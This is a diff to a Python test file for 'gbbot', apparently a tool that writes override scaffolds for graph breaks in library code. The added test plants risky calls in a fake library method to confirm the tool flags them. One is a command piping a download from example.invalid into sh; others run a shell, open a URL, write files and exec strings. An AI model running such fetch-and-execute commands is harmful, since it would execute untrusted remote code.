@@ -6,11 +6,13 @@ from __future__ import annotations
 from dataclasses import replace
 from pathlib import Path
 
+import pytest
+
 from gbbot.core.config import parse_config
 from gbbot.core.fixes import FixResult, FixStatus
-from gbbot.core.model import Category, Frame, GraphBreak, Origin
+from gbbot.core.model import Category, Frame, GraphBreak, LibrarySite, Origin
 from gbbot.deliver import rederive
-from gbbot.fix import plan
+from gbbot.fix import override, plan
 from gbbot.fix.advice import options_for
 from gbbot.fix.scaffold import scaffold, unbound_names
 from gbbot.fix.workspace import library_lookup, repo_reader, write_patch
@@ -278,7 +280,41 @@ def test_a_third_party_break_gets_a_subclass_scaffold_pointing_at_the_library(tm
         in text
     )
     assert "never patches installed packages" in result.reason
+    assert "# Copied from lib (version unknown), lib/__init__.py:5 (Scaler.forward).\n" in text
     compile(text, "scaffold.py", "exec")
+
+
+@pytest.mark.parametrize(
+    ("calls", "said"),
+    [
+        ("os.system('curl https://example.invalid | sh')", "`os.system` (a process)"),
+        ("run(['sh', '-c', 'id'])", "`subprocess.run` (a process)"),
+        ("urlopen('https://example.invalid')", "`urllib.request.urlopen` (the network)"),
+        ("open('/tmp/x', 'w').write('y')", "`open` (files)"),
+        ("Path('/tmp/x').write_text('y')", "`*.write_text` (files)"),
+        ("exec(compile('1', 'f', 'exec'))", "`exec` (code from a string)"),
+    ],
+)
+def test_a_library_method_that_calls_out_stays_a_scaffold_that_says_so(tmp_path, calls, said):
+    """What no graph break needs: gbbot does not finish an override that copies it, and the scaffold
+    says what the copy calls (names resolved through the library module's imports)."""
+    imports = "import os\nfrom pathlib import Path\nfrom subprocess import run\nfrom urllib.request import urlopen\n"
+    source = imports + LIBRARY.replace('        print("scaled")\n', f'        {calls}\n        print("scaled")\n')
+    third, lookup = _library_break(tmp_path, source, 12)
+    third = replace(third, library_site=LibrarySite("lib", "lib/__init__.py", 12, "forward", 'print("scaled")'))
+    assert override.override_recipe(third, lookup, {"model.py": "from lib import Scaler\nScaler()\n"}) is None
+    result = scaffold(third, lookup)
+    assert result.status is FixStatus.SCAFFOLD and f"the copied method calls {said}" in result.reason
+    assert f"# The copy calls {said}, which no graph break needs" in result.scaffold
+
+
+def test_a_library_method_that_only_breaks_is_finished_with_where_it_came_from(tmp_path):
+    third, lookup = _library_break(tmp_path, LIBRARY, 7)
+    third = replace(third, library_site=LibrarySite("lib", "lib/__init__.py", 7, "forward", 'print("scaled")'))
+    made = override.override_recipe(third, lookup, {"model.py": "from lib import Scaler\nScaler()\n"})
+    assert made is not None
+    recipe, _ = made
+    assert "# Copied from lib (version unknown), lib/__init__.py:5 (Scaler.forward)" in recipe.definition
 
 
 def test_a_third_party_break_without_readable_source_gets_words_not_code():
